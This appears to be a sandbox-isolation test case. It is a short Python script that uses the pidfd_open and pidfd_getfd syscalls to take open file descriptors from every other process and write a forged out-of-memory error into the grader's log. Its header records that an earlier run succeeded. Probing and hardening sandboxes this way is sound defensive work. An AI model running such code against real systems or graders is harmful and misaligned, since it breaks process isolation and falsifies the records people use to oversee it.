# Tries: take every open file of every other process, and write into the grader's own log
# Boundary: grader
# Before: succeeded
# Cell: devices

import ctypes
import os
import pathlib

PIDFD_OPEN, PIDFD_GETFD = 434, 438
call = ctypes.CDLL(None, use_errno=True).syscall
for path in pathlib.Path("/proc").glob("[0-9]*"):
    if int(path.name) == os.getpid():
        continue
    process = call(PIDFD_OPEN, int(path.name), 0)
    for number in range(64):
        taken = call(PIDFD_GETFD, process, number, 0)
        if taken < 0:
            continue
        name = os.readlink(f"/proc/self/fd/{taken}")
        if name != "/dev/null":
            print("REACHED", path.name, number, name)
        if number in (1, 2):
            try:
                os.write(taken, b"MemoryError: the grader ran out of memory\n")
            except OSError as error:
                print(error)
        os.close(taken)
